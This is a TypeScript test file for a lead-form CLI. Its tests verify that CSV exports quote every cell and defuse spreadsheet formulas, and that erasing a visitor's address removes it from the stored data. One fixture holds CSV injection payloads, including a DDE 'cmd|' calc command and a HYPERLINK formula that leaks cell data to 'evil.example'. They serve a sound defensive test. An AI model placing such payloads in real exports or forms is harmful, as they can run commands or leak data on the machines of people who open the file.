import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { LeadRecord } from "../../../lambdas/shared/lead-record.ts";
import { createDynamoLeadStore } from "../../../lambdas/shared/lead-store.ts";
import { createDynamoSubscriberStore } from "../../../lambdas/shared/subscriber-store.ts";
import { LOCAL_LEADS_TABLE, type LocalDynamo, startLocalDynamo } from "../../../server/local-dynamo.ts";
import { erasePersonalData } from "../../../scripts/personal-data.ts";
import { leadsCli } from "../../../scripts/leads.ts";
import { subscribersCli } from "../../../scripts/subscribers.ts";
import { runCli } from "../../fixtures/cli.ts";

const SCRIPTS = { "leads.ts": leadsCli, "subscribers.ts": subscribersCli };

/** The CLI as an operator runs it (in process); resolves with its output whatever its exit code. */
function cli(script: keyof typeof SCRIPTS, env: Record<string, string>, ...args: string[]) {
  return runCli(SCRIPTS[script], args, { ...process.env, ...env });
}

/** RFC 4180 as a spreadsheet in a comma locale reads it: the cells of each line, and whether each was quoted. */
function parseCsv(text: string): Array<Array<{ value: string; quoted: boolean }>> {
  const rows: Array<Array<{ value: string; quoted: boolean }>> = [];
  let row: Array<{ value: string; quoted: boolean }> = [];
  let value = "";
  let quoted = false;
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (inQuotes) {
      if (char === '"' && text[i + 1] === '"') {
        value += '"';
        i++;
      } else if (char === '"') inQuotes = false;
      else value += char;
    } else if (char === '"') {
      inQuotes = true;
      quoted = true;
    } else if (char === "," || char === "\n") {
      row.push({ value, quoted });
      value = "";
      quoted = false;
      if (char === "\n") {
        rows.push(row);
        row = [];
      }
    } else value += char;
  }
  return rows;
}

let next = 0;
function lead(fields: Record<string, string>, status: LeadRecord["status"] = "mailed"): LeadRecord {
  next += 1;
  const at = new Date(Date.UTC(2026, 10, 1, 0, next)).toISOString();
  return {
    submissionId: `00000000-0000-4000-8000-${String(next).padStart(12, "0")}`,
    form: "send-contact-email",
    status,
    ...(status === "spam" ? { spamReason: "honeypot" as const } : {}),
    receivedAt: at,
    updatedAt: at,
    attempts: 1,
    lead: fields,
    expiresAt: 0,
  };
}

const HOSTILE = lead(
  {
    constructor: "c",
    toString: "t",
    valueOf: "v",
    hasOwnProperty: "h",
    name: ";=cmd|' /C calc'!A0",
    company: "=1+1",
    subject: "@SUM(1)",
    message: "-2+3",
    email: '=HYPERLINK("http://evil.example/?"&A1)',
    mobile: "+91 98765 43210",
  },
  "spam",
);
const VISITOR = lead({ name: "Asha Verma", email: "+x@example.com", mobile: "+91 98765 43210", message: "Call me." });

describe("exports a spreadsheet cannot turn against its reader", () => {
  let dynamo: LocalDynamo;
  beforeAll(async () => {
    dynamo = await startLocalDynamo({ port: 0 });
    const store = createDynamoLeadStore({ tableName: LOCAL_LEADS_TABLE, region: "us-east-1", client: dynamo.client });
    await store.put(HOSTILE);
    await store.put(VISITOR);
    await createDynamoSubscriberStore({ client: dynamo.client, tableName: LOCAL_LEADS_TABLE }).request(
      "+x@example.com",
      {
        nonce: "n1",
        requestedAt: new Date(),
        unsubscribeUrl: "https://example.org/newsletter/unsubscribe?token=t",
        consentText: "Send me the newsletter.",
      },
      new Date(),
    );
  });
  afterAll(async () => {
    await dynamo?.close();
  });

  test("npm run leads -- --csv: a spam body's keys named after Object's methods stay out of other rows, every cell is quoted, formulas are defused, and a phone number or address is written as typed", async () => {
    const { stdout } = await cli("leads.ts", { DYNAMO_PORT: new URL(dynamo.endpoint).port }, "--csv");
    expect(stdout).not.toContain("native code");
    const [header = [], ...rows] = parseCsv(stdout);
    expect([header, ...rows].flat().every((cell) => cell.quoted)).toBe(true);
    const names = header.map((cell) => cell.value);
    // Every lead a row, under its id, form, status and dates first.
    expect(names.slice(0, 5)).toEqual(["submissionId", "form", "status", "spamReason", "receivedAt"]);
    expect(rows.map((row) => row[0]?.value).sort()).toEqual([HOSTILE.submissionId, VISITOR.submissionId].sort());
    const cellOf = (id: string, column: string) =>
      rows.find((row) => row[0]?.value === id)?.[names.indexOf(column)]?.value;
    for (const column of ["constructor", "toString", "valueOf", "hasOwnProperty"]) {
      expect(names).toContain(column);
      expect(cellOf(VISITOR.submissionId, column)).toBe("");
    }
    expect(cellOf(HOSTILE.submissionId, "constructor")).toBe("c");
    // The `;` spreadsheet splits there: the piece after it starts with ' too.
    expect(cellOf(HOSTILE.submissionId, "name")).toBe(";'=cmd|' /C calc'!A0");
    expect(cellOf(HOSTILE.submissionId, "company")).toBe("'=1+1");
    expect(cellOf(HOSTILE.submissionId, "subject")).toBe("'@SUM(1)");
    expect(cellOf(HOSTILE.submissionId, "message")).toBe("'-2+3");
    expect(cellOf(HOSTILE.submissionId, "email")).toBe('\'=HYPERLINK("http://evil.example/?"&A1)');
    expect(cellOf(HOSTILE.submissionId, "mobile")).toBe("+91 98765 43210");
    expect(cellOf(VISITOR.submissionId, "mobile")).toBe("+91 98765 43210");
    expect(cellOf(VISITOR.submissionId, "email")).toBe("+x@example.com");
  });

  test("npm run subscribers -- --csv writes an address as typed, every cell quoted", async () => {
    const { stdout } = await cli("subscribers.ts", { DYNAMO_PORT: new URL(dynamo.endpoint).port }, "--csv", "--all");
    const [header = [], first = []] = parseCsv(stdout);
    expect(header.map((cell) => cell.value)).toEqual([
      "email",
      "status",
      "subscribed_at",
      "confirmed_at",
      "unsubscribed_at",
      "unsubscribe_url",
    ]);
    expect([...header, ...first].every((cell) => cell.quoted)).toBe(true);
    expect(first[0]?.value).toBe("+x@example.com");
  });
});

/** Every file of the folder that holds `text`, in any case. */
async function filesHolding(dataDir: string, text: string): Promise<string[]> {
  const files = await readdir(dataDir);
  const held: string[] = [];
  for (const file of files) {
    const bytes = await readFile(path.join(dataDir, file)).catch(() => Buffer.alloc(0));
    if (bytes.toString("latin1").toLowerCase().includes(text)) held.push(file);
  }
  return held;
}

describe("erase means erased", () => {
  const address = "victim@example.org";
  const seed = async (dynamo: LocalDynamo) => {
    const store = createDynamoLeadStore({ tableName: LOCAL_LEADS_TABLE, region: "us-east-1", client: dynamo.client });
    const own = lead({ name: "Asha", email: address, message: "Please call me back." });
    const spam = lead({ "e-mail": "Victim@Example.ORG", text: "cheap watches" }, "spam");
    const quoting = lead({
      name: "Ravi",
      email: "ravi@example.org",
      message: `Also ask VICTIM@example.org, my colleague.`,
    });
    for (const record of [own, spam, quoting]) await store.put(record);
    return { store, own, spam, quoting };
  };

  test("finds the address under any key of a spam body, deletes the visitor's leads, keeps another visitor's lead without it, and the store's files no longer hold it", async () => {
    const dataDir = await mkdtemp(path.join(tmpdir(), "erase-"));
    try {
      let dynamo = await startLocalDynamo({ dataDir, port: 0 });
      const { own, spam, quoting } = await seed(dynamo);
      await dynamo.close();
      dynamo = await startLocalDynamo({ dataDir, port: 0 });
      const table = {
        client: dynamo.client,
        tableName: LOCAL_LEADS_TABLE,
        where: dataDir,
        close: () => dynamo.close(),
      };
      const erased = await erasePersonalData(table, address);
      expect(erased.leads.map((record) => record.submissionId).sort()).toEqual(
        [own.submissionId, spam.submissionId].sort(),
      );
      const store = createDynamoLeadStore({ tableName: LOCAL_LEADS_TABLE, region: "us-east-1", client: dynamo.client });
      expect(await store.get(spam.submissionId)).toBeUndefined();
      expect((await store.get(quoting.submissionId))?.lead.message).toBe("Also ask [erased], my colleague.");
      await table.close();
      expect(await filesHolding(dataDir, address)).toEqual([]);
      expect(await filesHolding(dataDir, "ravi@example.org")).not.toEqual([]);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  test("npm run leads -- erase says what it cannot reach, and npm start's running store drops it from its files when it stops", async () => {
    const dataDir = await mkdtemp(path.join(tmpdir(), "erase-running-"));
    try {
      const dynamo = await startLocalDynamo({ dataDir, port: 0 });
      try {
        await seed(dynamo);
        const { stderr } = await cli("leads.ts", { DYNAMO_PORT: new URL(dynamo.endpoint).port }, "erase", address);
        expect(stderr).toContain("Erased 2 items for that address");
        expect(stderr).toContain("and the address from 1 other item quoting it");
        expect(stderr).toContain("until npm start stops or restarts");
        expect(stderr).toContain("Erase cannot reach these, which keep the address:");
        expect(stderr).toContain("mails already sent");
      } finally {
        await dynamo.close();
      }
      expect(await filesHolding(dataDir, address)).toEqual([]);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  test("erase on a deployed stack names the backups and queues with how long they keep the address", async () => {
    const { unreachableCopies } = await import("../../../scripts/personal-data.ts");
    const text = unreachableCopies(true).join("\n");
    expect(text).toContain("point-in-time backups: 35 days");
    expect(text).toContain("retry queue messages");
    expect(text).toContain("up to 4 days");
    expect(text).toContain("dead-letter queue messages: up to 14 days");
  });
});
